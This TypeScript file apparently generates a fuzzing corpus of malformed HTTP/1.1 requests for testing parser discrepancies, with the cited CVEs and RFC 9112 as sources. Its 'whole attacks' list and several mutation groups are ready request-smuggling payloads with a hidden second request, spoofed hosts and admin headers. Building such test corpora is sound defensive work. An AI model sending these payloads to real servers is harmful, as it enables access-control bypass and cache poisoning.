/**
 * Requests of which one server has been known to read more, or less, than another: HTTP Garden, the advisories of
 * Node's parser (CVE-2022-32213 to 32215, CVE-2023-30589, CVE-2024-27982, CVE-2025-23167) and RFC 9112 section 11.2.
 * The target is `/case-00000`, and `/smuggled-00000` what an attacker would like to have served; both are as long as
 * any number that stands in their place.
 */
const caseTarget = '/case-00000'
const smuggled = 'GET /smuggled-00000 HTTP/1.1\r\nHost: localhost\r\n\r\n'

const chunks = '5\r\nhello\r\n0\r\n\r\n'

/** @param fields each with the end of its line */
function post (fields: string, body: string, line = `POST ${caseTarget} HTTP/1.1`): string {
  return `${line}\r\nHost: localhost\r\n${fields}\r\n${body}`
}

function product<First, Second> (first: readonly First[], second: readonly Second[]): Array<readonly [First, Second]> {
  return first.flatMap((one) => second.map((other) => [one, other] as const))
}

const oddBytes = [
  '\0', '\x01', '\b', '\t', '\n', '\v', '\f', '\r', '\x1b', '\x1c', ' ', '"', "'", ',', '-', '_', '.', '+', ';', ':', '=', '/', '@', '(', '{', '\\', '\x7f', '\x80', '\x85', '\xa0', '\xad', '\xff', '\r\n', '\r\n ', '\r\n\t', '\n ', '%20', 'X'
]

/** One byte too many, at each place of a field where a reader may overlook it. */
const places: ReadonlyArray<(name: string, value: string, odd: string) => string> = [
  (name, value, odd) => `${odd}${name}: ${value}\r\n`,
  (name, value, odd) => `${name.replace('-', `${odd}-`)}: ${value}\r\n`,
  (name, value, odd) => `${name.replace('-', odd)}: ${value}\r\n`,
  (name, value, odd) => `${name.slice(0, 3)}${odd}${name.slice(3)}: ${value}\r\n`,
  (name, value, odd) => `${name}${odd}: ${value}\r\n`,
  (name, value, odd) => `${name}${odd}${value}\r\n`,
  (name, value, odd) => `${name}:${odd}${value}\r\n`,
  (name, value, odd) => `${name}: ${odd}${value}\r\n`,
  (name, value, odd) => `${name}: ${value.slice(0, 1)}${odd}${value.slice(1)}\r\n`,
  (name, value, odd) => `${name}: ${value}${odd}\r\n`,
  (name, value, odd) => `${name}: ${value}${odd}`,
  (name, value, odd) => `X: y${odd}${name}: ${value}\r\n`
]

function oddFields (name: string, value: string, body: string, beside = ''): string[] {
  return product(places, oddBytes).map(([place, odd]) => post(`${place(name, value, odd)}${beside}`, body))
}

const codings = ['chunked', 'Chunked', 'CHUNKED', 'identity', 'gzip', 'deflate', 'compress', 'x-gzip', 'xchunked', 'chunk', 'chunkedx', 'trailers', '', ',', '"chunked"', "'chunked'", 'chunked;q=1', 'chunked, identity', 'identity, chunked', 'gzip, chunked', 'chunked, chunked', ',chunked', 'chunked,', '[chunked]', 'ch\xfcnked', 'c\u0131hunked']
const lengths = ['0', '4', '5', '05', '00000000000000000005', '+5', '-5', '-0', '0x5', '5.0', '5e0', '5 5', '5,5', '5, 6', '5;', '"5"', '', 'five', '5a', '0b101', '0o5', '\xb5', '9007199254740993', '18446744073709551621', '4294967301']

/** Two fields, in every order and on every kind of line. */
function pairs (first: string, second: string): string[] {
  return [`${first}${second}`, `${second}${first}`, `${first}X: y\r\n${second}`, `${first.toLowerCase()}${second.toUpperCase()}`]
}

const coding = (value: string): string => `Transfer-Encoding: ${value}\r\n`
const length = (value: string | number): string => `Content-Length: ${value}\r\n`
const isOneLine = (text: string): boolean => !text.includes('\n')

const chunkSizes = [
  '5', '05', '0000000005', '00000000000000000005', '+5', '-5', '0x5', '0X5', '5h', 'g', '', ' ', ' 5', '5 ', '5\t', '5  ', '\t5', '5\v', '5\f', '5\0', '\x005', '5_', '5.0', '5e0', '5,', '5,5', '5 5', '"5"', '\xb5', '5\x80', '5\xa0', '5\x85', '5\r', '5\n', '\n5', '5;', '5; ', '5;a', '5;a=b', '5;a="b"', '5;a="b;c"', '5;a="b', '5;a="\\"', '5;a="\\""', '5 ;a', '5; a', '5;a =b', '5;a= b', '5;;', '5;a;b', '5;a,b', '5;=b', '5;\x80', '5;\0', '5;\x7f', '5;a\r', '5;a\n', '5;a\nb', '5;a\rb', '5;\n0', '5;"\r\n0\r\n"', `5;${'x'.repeat(5_000)}`, `5;${'x'.repeat(17_000)}`, `5;a="${'x'.repeat(20_000)}"`, `5${';a'.repeat(9_000)}`, `${'0'.repeat(40_000)}5`,
  'ffffffff00000005', '10000000000000005', 'fffffffffffffffff', '8000000000000005', '100000005', '-ffffffb', 'fffffffb', '4', '6', '7', '50'
]
const lineEnds = ['\r\n', '\n', '\r', '', '\r\r\n', '\n\r', '\r\n\r\n', ' \r\n', '\0\r\n', '\v\r\n', '\x85', '\r\0\n']
const lastChunks = ['0', '00', '0000000000000000000', '-0', '+0', '0x0', ' 0', '0 ', '0;', '0;a', '0;a=b', '0;\0', '', 'O', '0\t', '0,', '0.0']
const trailers = ['X: y', 'Content-Length: 5', 'Transfer-Encoding: chunked', 'Content_Length: 5', 'Host: evil.example', 'Connection: close', 'Connection: keep-alive', 'X-Auth-User: admin', 'Upgrade: h2c', 'Trailer: X', 'Cookie: a', 'Expect: 100-continue', '__proto__: x', 'constructor: x', ': x', 'X', 'X : y', ' X: y', 'X: a\nb', 'X: a\rb', 'X: \0', 'X: y\r\n z', 'GET /smuggled-00000 HTTP/1.1', `X: ${'y'.repeat(70_000)}`, 'X: y\r\n'.repeat(3_000) + 'X: y']

const versions = ['HTTP/1.1', 'HTTP/1.0', 'HTTP/0.9', 'HTTP/2.0', 'HTTP/2', 'HTTP/3.0', 'HTTP/1.2', 'HTTP/1.10', 'HTTP/01.1', 'HTTP/1.01', 'HTTP/1', 'HTTP/1.', 'HTTP/.1', 'http/1.1', 'HTTP/1.1x', 'HTTP/1.1 x', 'HTTP /1.1', 'HTTP/1,1', 'HTTP/1.1\t', 'HTTP/1.1\0', 'XHTTP/1.1', 'ICE/1.0', 'HTTPS/1.1', '']
const bodies = [['', ''], [length(5), 'hello'], [coding('chunked'), chunks], [`${coding('chunked')}Connection: keep-alive\r\n`, chunks], [`${length(5)}Connection: keep-alive\r\n`, 'hello']] as const

const targets = ['http://localhost/case-00000', 'http://evil.example/case-00000', 'https://localhost/case-00000', 'localhost:80', '//evil.example/case-00000', '*', '?/case-00000', 'case-00000', '\\case-00000', 'ftp://localhost/case-00000', 'http:/case-00000', 'http://localhost@evil.example/case-00000', '/case-00000#x', '/case-00000\0', '/case-00000\t', '/case-00000\x7f', '/case-00000\x80', '/case-00000\v', '/case-00000 x', '/case-00000%0d%0aX: y', '/case-00000\r', '/case-00000\n', '/case-00000\rX: y', '/case-00000 HTTP/1.1\r\nX: y\r\nY:']
const methods = ['GET', 'HEAD', 'POST', 'DELETE', 'OPTIONS', 'QUERY', 'CONNECT', 'TRACE', 'get', 'GET\t', 'GET ', 'GET  ', ' GET', '\tGET', 'G\0ET', 'GE\x01T', 'XGET', '"GET"', 'GET,', 'M-SEARCH', 'PRI', 'SOURCE', '', '\r\nGET', '\r\n\r\nGET', '\nGET', '\rGET', '\0GET', '\xff\xfeGET', '\ufeffGET']

const upgrades = ['websocket', 'h2c', 'foo', 'TLS/1.0, HTTP/1.1', 'websocket, h2c', '']
const connections = ['Upgrade', 'upgrade, HTTP2-Settings', 'keep-alive, Upgrade', 'keep-alive', 'Content-Length', 'Transfer-Encoding', 'content-length, transfer-encoding, host', 'Host', 'X-Auth-User, X-Forwarded-For', 'Cookie', 'Connection', 'Expect', 'Upgrade, Content-Length', 'Upgrade, Transfer-Encoding', ',', '"close', 'Trailer', 'TE']
const expectations = ['100-continue', '100-Continue', '100-continue, x', ' 100-continue ', '200-ok', '', '100-continue\r\nExpect: 100-continue', '100-continue\r\nExpect: x', '100']

/** Whole attacks: what follows the end of the request would be another request to whoever sees the end elsewhere. */
const prefixes = [
  post(length(0), smuggled), post(length(0), 'X'), post(length(1), `X${smuggled}`), post(length(smuggled.length), smuggled), post('', smuggled), post(length(smuggled.length - 4), smuggled), post(length(1_000), smuggled),
  post(coding('chunked'), `0\r\n\r\n${smuggled}`), post(coding('chunked'), `0\r\n${smuggled}`), post(coding('chunked'), `0\r\n\r\n\r\n${smuggled}`), post(coding('chunked'), `${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`), post(coding('chunked'), `5\r\nhello0\r\n\r\n${smuggled}`), post(coding('chunked'), smuggled), post(coding('chunked'), '0\r\n'), post(coding('chunked'), '0\r\n\r'), post(coding('chunked'), '5\r\nhello'),
  post(`${length(6)}${coding('chunked')}`, `0\r\n\r\n${smuggled}`), post(`${coding('chunked')}${length(smuggled.length + 5)}`, `0\r\n\r\n${smuggled}`), post(`${coding('chunked')}${coding('x')}`, `0\r\n\r\n${smuggled}`), post(`Connection: close\r\n${length(0)}`, smuggled), post('Connection: close\r\n', smuggled), post('', smuggled, 'GET /case-00000 HTTP/1.0'), post('Upgrade: h2c\r\n', smuggled), post('Upgrade: h2c\r\nConnection: Upgrade\r\n', smuggled), post('Upgrade: h2c\r\nConnection: Upgrade\r\n', `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${smuggled}`), post('', smuggled, 'CONNECT localhost:80 HTTP/1.1'), post('', smuggled, 'CONNECT /case-00000 HTTP/1.1'),
  `POST ${caseTarget} HTTP/1.1\r\nHost: localhost\r\nX: y`, `GET ${caseTarget}\r\n`, `GET ${caseTarget}\r\n\r\n`, `GET ${caseTarget}\n\n`, `GET ${caseTarget} HTTP/1.1\n\n`, `GET ${caseTarget} HTTP/1.1\nHost: localhost\n\n`, `GET ${caseTarget} HTTP/1.1\rHost: localhost\r\r`, post(`X: y\n${coding('chunked')}`, chunks), post(`X: y\r${coding('chunked')}`, chunks), post(`X: y\r\n\r${coding('chunked')}`, chunks), post(`X: y\n\n${smuggled}`, '')
]

/** Numbers that are the same on every run (mulberry32). */
function seededRandom (seed: number): (below: number) => number {
  let state = seed
  return (below) => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return Math.floor(((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32 * below)
  }
}

/** One to three edits anywhere after the target, with what attacks are made of. */
function randomEdits (count: number): string[] {
  const random = seededRandom(9112)
  const pieces = [...oddBytes, '\r\n\r\n', '0', '5', 'chunked', 'Transfer-Encoding: chunked\r\n', 'Content-Length: 5\r\n', '0\r\n\r\n', smuggled]
  const bases = [post(length(5), 'hello'), post(coding('chunked'), chunks), post(`X: y\r\n${coding('chunked')}Y: z\r\n`, `2;a=b\r\nhe\r\n${chunks}`)]
  return Array.from({ length: count }, () => {
    let text = bases[random(bases.length)] ?? ''
    for (let edits = 1 + random(3); edits > 0; edits--) {
      const from = `POST ${caseTarget}`.length
      const at = from + random(text.length - from + 1)
      const piece = random(4) === 0 ? '' : pieces[random(pieces.length)] ?? ''
      text = text.slice(0, at) + piece + text.slice(at + random(3))
    }
    return text
  })
}

/** All of them, by theme. */
export const mutations: Readonly<Record<string, readonly string[]>> = {
  'an odd byte in Transfer-Encoding': oddFields('Transfer-Encoding', 'chunked', chunks),
  'an odd byte in Transfer-Encoding, before a length': oddFields('Transfer-Encoding', 'chunked', chunks, length(chunks.length)),
  'an odd byte in Content-Length': oddFields('Content-Length', '5', 'hello'),
  'transfer codings': product(codings, bodies).map(([value, [fields]]) => post(coding(value) + fields.replace(/^[CT].*\r\n/, ''), chunks)),
  'two transfer codings': product(codings, codings).map(([first, second]) => post(coding(first) + coding(second), chunks)),
  'a length and a transfer coding': product(codings, ['0', '5', String(chunks.length)]).flatMap(([value, size]) => pairs(coding(value), length(size)).filter((_, index) => index < 2).map((fields) => post(fields, chunks))),
  lengths: lengths.map((value) => post(length(value), 'hello')),
  'two lengths': product(['0', '5', '05', '6'], lengths).flatMap(([first, second]) => pairs(length(first), length(second)).map((fields) => post(fields, 'hello'))),
  'sizes of chunks': chunkSizes.flatMap((size) => [post(coding('chunked'), `${size}\r\nhello\r\n0\r\n\r\n`), post(coding('chunked'), `1\r\nx\r\n${size}\r\nhello\r\n0\r\n\r\n`)]),
  'ends of the lines of chunks': lineEnds.flatMap((end) => [`5${end}hello\r\n0\r\n\r\n`, `5\r\nhello${end}0\r\n\r\n`, `5\r\nhello\r\n0${end}\r\n`, `5\r\nhello\r\n0\r\n${end}`, `5${end}hello${end}0${end}${end}`]).map((body) => post(coding('chunked'), body)),
  'last chunks': product(lastChunks, ['\r\n\r\n', '\r\n', '\n\n', '']).map(([last, end]) => post(coding('chunked'), `5\r\nhello\r\n${last}${end}`)),
  trailers: trailers.flatMap((trailer) => [post(coding('chunked'), `5\r\nhello\r\n0\r\n${trailer}\r\n\r\n`), post(`${coding('chunked')}Trailer: ${isOneLine(trailer) ? trailer.split(':')[0] : 'X'}\r\n`, `0\r\n${trailer}\r\n\r\n`)]),
  'folded lines': ['Host', 'Transfer-Encoding', 'Content-Length', 'X'].flatMap((name) => ['\r\n ', '\r\n\t', '\n ', '\r\n \r\n '].flatMap((fold) => [`${name}:${fold}chunked\r\n`, `${name}: 5${fold}5\r\n`, `X: y${fold}${name}: 5\r\n`])).map((fields) => post(fields, chunks)),
  versions: product(versions, bodies).map(([version, [fields, body]]) => post(fields, body, `POST ${caseTarget} ${version}`.trimEnd())),
  'forms of the target': product(targets, bodies.slice(0, 3)).map(([target, [fields, body]]) => post(fields, body, `POST ${target} HTTP/1.1`)),
  methods: product(methods, bodies.slice(0, 3)).map(([method, [fields, body]]) => post(fields, body, `${method} ${caseTarget} HTTP/1.1`)),
  upgrades: product(product(upgrades, ['', 'Connection: Upgrade\r\n']), bodies).map(([[upgrade, connection], [fields, body]]) => post(`Upgrade: ${upgrade}\r\n${connection}${fields}`, body)),
  'Connection tokens': product(connections, bodies.slice(0, 3)).map(([tokens, [fields, body]]) => post(`Connection: ${tokens}\r\n${fields}`, body)),
  expectations: product(expectations, bodies).map(([value, [fields, body]]) => post(`Expect: ${value}\r\n${fields}`, body)),
  'names that only look like framing': ['Content_Length', 'Content.Length', 'CONTENT~LENGTH', 'Transfer_Encoding', 'transfer.encoding', 'Transfer!Encoding', 'HTTP_TRANSFER_ENCODING', 'Content-Lengt', 'XContent-Length', '__proto__', 'constructor', 'toString'].flatMap((name) => product(['chunked', '5', '0'], bodies.slice(0, 3)).map(([value, [fields, body]]) => post(`${name}: ${value}\r\n${fields}`, body))),
  'whole attacks': prefixes,
  'random edits': randomEdits(1_000)
}
